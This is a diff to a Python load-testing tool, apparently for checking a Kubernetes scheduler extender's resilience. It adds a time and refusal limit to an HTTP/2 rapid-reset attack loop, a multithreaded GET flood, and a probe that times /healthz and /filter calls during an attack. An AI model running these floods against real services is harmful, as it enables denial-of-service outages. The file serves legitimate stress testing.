@@ -225,7 +225,12 @@ def rapid_reset(host, port, streams, tls=False):
     sent, connections = 0, 0
     stream = 1
     s = None
-    while sent < streams:
+    # A server that refuses every connection (mutual TLS without a client certificate) would
+    # keep this loop going for ever: it gives up after 50 connections in a row took nothing,
+    # or a minute.
+    give_up = time.time() + 60
+    refused_in_a_row = 0
+    while sent < streams and time.time() < give_up and refused_in_a_row < 50:
         if s is None:
             try:
                 s = connect(host, port, tls=tls, alpn=["h2"])
@@ -246,6 +251,7 @@ def rapid_reset(host, port, streams, tls=False):
             s.sendall(batch)
             s.setblocking(False)
             sent += 200
+            refused_in_a_row = 0
             try:
                 while s.recv(65536):
                     pass
@@ -254,6 +260,7 @@ def rapid_reset(host, port, streams, tls=False):
         except OSError:
             s.close()
             s = None
+            refused_in_a_row += 1
         if stream > 2**30:
             s.close()
             s = None
@@ -384,6 +391,91 @@ def arrays(host, port, path, mib, count, tls):
     print(f"statuses={','.join(map(str, sorted(statuses)))} seconds={time.time() - start:.3f}")
 
 
+def latency(host, port, seconds, filter_body_file):
+    """What the kubelet and the scheduler see during an attack run elsewhere: /healthz and
+    /filter (the body in the file) each on its own keep-alive connection, 20 a second, for
+    `seconds`. A call slower than 1 s or not 200 counts as failed."""
+    import http.client
+    body = open(filter_body_file, "rb").read()
+    stop = time.time() + seconds
+    results = {"healthz": [], "filter": []}
+    failed = {"healthz": 0, "filter": 0}
+
+    def run(kind):
+        conn = None
+        while time.time() < stop:
+            start = time.time()
+            try:
+                if conn is None:
+                    conn = http.client.HTTPConnection(host, port, timeout=5)
+                if kind == "healthz":
+                    conn.request("GET", "/healthz")
+                else:
+                    conn.request("POST", "/filter", body, {"Content-Type": "application/json"})
+                response = conn.getresponse()
+                response.read()
+                took = time.time() - start
+                if response.status != 200 or took > 1.0:
+                    failed[kind] += 1
+                results[kind].append(took)
+            except (OSError, http.client.HTTPException):
+                failed[kind] += 1
+                results[kind].append(time.time() - start)
+                conn = None
+            time.sleep(max(0.0, 0.05 - (time.time() - start)))
+
+    threads = [threading.Thread(target=run, args=(k,)) for k in results]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+
+    def p99(values):
+        values = sorted(values)
+        return values[min(len(values) - 1, int(0.99 * len(values)))] if values else -1
+
+    print(f"healthz_probes={len(results['healthz'])} healthz_failed={failed['healthz']} "
+          f"healthz_p99_ms={p99(results['healthz']) * 1000:.1f} "
+          f"filter_calls={len(results['filter'])} filter_failed={failed['filter']} "
+          f"filter_p99_ms={p99(results['filter']) * 1000:.1f}")
+
+
+def get_flood(host, port, paths, threads, seconds):
+    """`threads` keep-alive clients each GETting the comma-separated `paths` in turn, as fast
+    as answered, for `seconds`: the count of each status."""
+    import http.client
+    targets = paths.split(",")
+    stop = time.time() + seconds
+    counts = {}
+    lock = threading.Lock()
+
+    def run(i):
+        conn = None
+        n = i
+        while time.time() < stop:
+            try:
+                if conn is None:
+                    conn = http.client.HTTPConnection(host, port, timeout=10)
+                conn.request("GET", targets[n % len(targets)])
+                response = conn.getresponse()
+                response.read()
+                status = response.status
+            except (OSError, http.client.HTTPException):
+                status = "error"
+                conn = None
+            n += 1
+            with lock:
+                counts[status] = counts.get(status, 0) + 1
+
+    workers = [threading.Thread(target=run, args=(i,)) for i in range(threads)]
+    for w in workers:
+        w.start()
+    for w in workers:
+        w.join()
+    print(" ".join(f"s{k}={v}" for k, v in sorted(counts.items(), key=str)) +
+          f" requests={sum(counts.values())}")
+
+
 def main():
     cmd, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
     args = sys.argv[4:]
@@ -407,6 +499,10 @@ def main():
         scrape_flood(host, port, int(args[0]), float(args[1]))
     elif cmd == "arrays":
         arrays(host, port, args[0], int(args[1]), int(args[2]), len(args) > 3 and args[3] == "tls")
+    elif cmd == "get-flood":
+        get_flood(host, port, args[0], int(args[1]), float(args[2]))
+    elif cmd == "latency":
+        latency(host, port, float(args[0]), args[1])
     elif cmd == "ping-flood":
         ping_flood(host, port, int(args[0]), len(args) > 1 and args[1] == "tls")
     else:
